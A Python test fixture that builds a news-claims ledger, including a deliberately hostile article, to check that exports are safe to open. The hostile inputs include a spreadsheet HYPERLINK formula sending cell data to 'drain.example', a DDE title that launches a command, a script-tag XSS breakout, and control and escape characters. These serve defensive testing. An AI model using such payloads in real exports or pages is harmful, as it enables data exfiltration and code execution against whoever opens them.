"""A ledger with everything that could harm who opens an export: formulas, scripts, controls, half characters."""

from __future__ import annotations

import io
from collections.abc import Collection

from rashomon.exports import export_into
from rashomon.ledger import Ledger, View
from rashomon.model import ActorKind, Bound, Population, Stance, Verdict
from tests.exports.telling import Page, page, tell

FORMULA = '=HYPERLINK("http://drain.example/?x="&A1,"41 people")'
TEXT = (
    f"The army said {FORMULA} were killed in Ferrin.\n\n"
    "Mira Tolland, a baker, was killed, the hospital said. Tolland was 71.\n\n"
    "“We did\nnot fire,” the Front said; “it was </script><script>alert(1)</script> & a glorious\tvictory,” it added."
    "\n\nThe control \x01\x1b[31m and the half \ud83d pair stand here, said 𝒪sten Pell 🙂. At least 12 fell."
    "\n\n+12 and -3 and @home, the mayor said."
)


def hostile() -> Page:
    told = page(TEXT, title="=cmd|' /C calc'!A0", outlet="@Herald <b>", url="https://herald.example/a?b=1&c=<d>")
    told.actor("the Front", ActorKind.ARMED_GROUP)
    said = told.says(f"{FORMULA} were killed in Ferrin", by="The army", source="The army")
    told.says("We did\nnot fire,", "it was </script><script>alert(1)</script> & a glorious\tvictory", by="the Front")
    told.harm(FORMULA, 41, 41, by="The army", statement=said)
    told.harm("Mira Tolland, a baker", 1, 1, population=Population.NAMED, names=("Mira Tolland",))
    told.harm("At least 12 fell", 12, None, bound=Bound.AT_LEAST, by="𝒪sten Pell")
    told.harm("The control \x01\x1b[31m and the half \ud83d pair", None, None, bound=Bound.VAGUE)
    told.blame("We did\nnot fire", "the Front", Stance.DENIES, by="the Front")
    told.label("glorious\tvictory", "=1+1", by="the Front")
    told.harm("+12 and -3", 12, 12, by="the mayor")
    told.actor("Mira Tolland", ActorKind.PERSON)
    told.mentions_of("Mira Tolland", "Mira Tolland", "Tolland was")
    told.mentions_of("the Front", "the Front", "it added")
    return told


def quiet() -> Page:
    told = page(
        "Nine people were killed, the mayor said. The Front did it, he said. Dag Roa said Mira Tolland died. The army "
        "will answer.",
        url="https://wire.example/mira-tolland-is-dead",
        outlet="Ferrin Wire",
        title="Mira Tolland is dead",
        published="2031-05-04",
    )
    said = told.says("Nine people were killed", by="the mayor", source="the mayor")
    told.harm("Nine people", 9, 9, by="the mayor", statement=said)
    told.blame("The Front did it", "the Front", Stance.ACCUSES, by="the mayor")
    told.says("Mira Tolland died", by="Dag Roa", source="Dag Roa")
    told.says("The army will answer", by="Dag Roa")
    told.actor("Mira Tolland", ActorKind.PERSON)
    told.mentions_of("Mira Tolland", "Mira Tolland")
    told.mentions_of("The army", "The army")
    return told


def fill(ledger: Ledger) -> list[Page]:
    """Two events of one article each; one claim corrected, one rejected, each by a person."""
    pages = [hostile(), quiet()]
    tell(ledger, pages, events=[[one] for one in pages])
    nine = next(claim.id for claim in pages[1].claims if claim.kind == "harm")
    ledger.decide(nine, Verdict.CORRECT, by="Ann Rey", now={"low": 8}, at="2031-06-01T08:00:00Z")
    did_it = next(claim.id for claim in pages[1].claims if claim.kind == "blame")
    ledger.decide(did_it, Verdict.REJECT, by="Ben Oll", note="Mira Tolland said so", at="2031-06-02T08:00:00Z")
    return pages


def exported(view: View, form: str, *, events: Collection[str] | None = None, names: bool = False) -> bytes:
    stream = io.BytesIO()
    export_into(view, stream, form, events=events, names=names)
    return stream.getvalue()
